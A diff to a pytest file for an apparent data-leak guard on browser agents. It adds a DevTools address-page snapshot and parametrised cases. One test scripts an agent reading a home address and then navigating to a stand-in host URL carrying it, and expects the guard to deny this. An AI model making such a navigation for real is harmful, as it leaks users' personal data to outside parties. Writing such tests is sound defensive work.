@@ -21,6 +21,16 @@ ADDRESS_PAGE = """### Page state
   - paragraph [ref=e10]: Boulder, CO 80304
 ```"""
 
+DEVTOOLS_ADDRESS_PAGE = """# take_snapshot response
+## Page content
+uid=2_0 RootWebArea "Your addresses" url="https://www.shopmart.example/account/addresses"
+  uid=2_1 heading "Default address" level="2"
+  uid=2_2 StaticText "Maria Delgado"
+  uid=2_3 StaticText "4417 Juniper Hollow Road"
+  uid=2_4 StaticText "Apt 12C"
+  uid=2_5 StaticText "Boulder, CO 80304"
+"""
+
 
 @pytest.mark.parametrize(
     ("line", "words"),
@@ -30,14 +40,23 @@ ADDRESS_PAGE = """### Page state
         ('- checkbox "Remember me" [checked] [ref=e9]', '"Remember me"'),
         ("- text: Order total $41.20 [ref=e3]", ": Order total $41.20"),
         ("  - /url: https://shop.example/a [ref=e4]", "- /url: https://shop.example/a"),
+        ('uid=1_0 RootWebArea "Home"\n  uid=1_4 StaticText "Apt 12C"', '"Home" "Apt 12C"'),
+        ('uid=1_0 RootWebArea "Home"\n  uid=1_1 heading "Orders" level="1"', '"Home" "Orders"'),
     ],
 )
 def test_a_snapshot_lines_markup_is_blanked_and_its_words_kept(line: str, words: str) -> None:
     assert page_words(line).split() == words.split()
 
 
-def test_text_that_is_no_snapshot_is_left_as_it_is() -> None:
-    text = "- paragraph one\n- list: milk, eggs"
+@pytest.mark.parametrize(
+    "text",
+    [
+        "- paragraph one\n- list: milk, eggs",
+        "dn: uid=jdoe,ou=people\n- member: admins",
+        "uid=1000(dev) gid=1000(dev)\n- item one",
+    ],
+)
+def test_text_that_is_no_snapshot_is_left_as_it_is(text: str) -> None:
     assert page_words(text) == text
 
 
@@ -47,17 +66,21 @@ def test_every_offset_stays_where_it_was(text: str) -> None:
     assert len(page_words(snapshot)) == len(snapshot)
 
 
-def test_an_address_shown_over_several_lines_links_when_sent_on_one(prevent: Session) -> None:
+@pytest.mark.parametrize(
+    ("server", "navigate", "page"),
+    [
+        ("playwright", "browser_navigate", ADDRESS_PAGE),
+        ("chrome-devtools", "navigate_page", DEVTOOLS_ADDRESS_PAGE),
+    ],
+)
+def test_an_address_shown_over_several_lines_links_when_sent_on_one(
+    prevent: Session, server: str, navigate: str, page: str
+) -> None:
     sent = "4417 Juniper Hollow Road Apt 12C Boulder CO 80304".replace(" ", "+")
     steps = [
-        step("playwright", "browser_navigate", {"url": "https://deals.example/"}, "Deals"),
-        step(
-            "playwright",
-            "browser_navigate",
-            {"url": "https://www.shopmart.example/account/addresses"},
-            ADDRESS_PAGE,
-        ),
-        step("playwright", "browser_navigate", {"url": f"https://pm.example/c?a={sent}"}),
+        step(server, navigate, {"url": "https://deals.example/"}, "Deals"),
+        step(server, navigate, {"url": "https://www.shopmart.example/account/addresses"}, page),
+        step(server, navigate, {"url": f"https://pm.example/c?a={sent}"}),
     ]
     decision = play(prevent, steps)[-1]
     assert decision.action is Action.DENY
